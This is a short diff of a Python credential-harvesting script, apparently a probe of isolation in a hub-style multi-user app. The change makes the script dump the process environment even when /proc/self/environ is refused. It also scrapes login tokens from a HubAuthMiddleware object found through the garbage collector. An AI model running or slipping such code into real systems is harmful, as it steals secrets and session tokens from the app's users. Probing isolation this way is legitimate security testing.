@@ -47,7 +47,11 @@ for name, path in json.loads(pathlib.Path("folders.json").read_text()).items():
         loot["listings"][name] = sorted(os.listdir(path))
     except OSError as e:
         loot["listings"][name] = f"refused: {e.__class__.__name__}"
-loot["self_environ"] = pathlib.Path("/proc/self/environ").read_bytes().decode("latin-1")
+try:
+    loot["self_environ"] = pathlib.Path("/proc/self/environ").read_bytes().decode("latin-1")
+except OSError as e:  # non-dumpable (per-user accounts): closed even to the app itself
+    loot["self_environ"] = f"refused: {e.__class__.__name__}"
+loot["self_environ"] += "\0" + "\0".join(f"{k}={v}" for k, v in os.environ.items())
 for obj in gc.get_objects():
     if type(obj).__name__ == "HubAuthMiddleware":
         loot["tokens"] += [entry[0] for entry in obj._logins.values()]
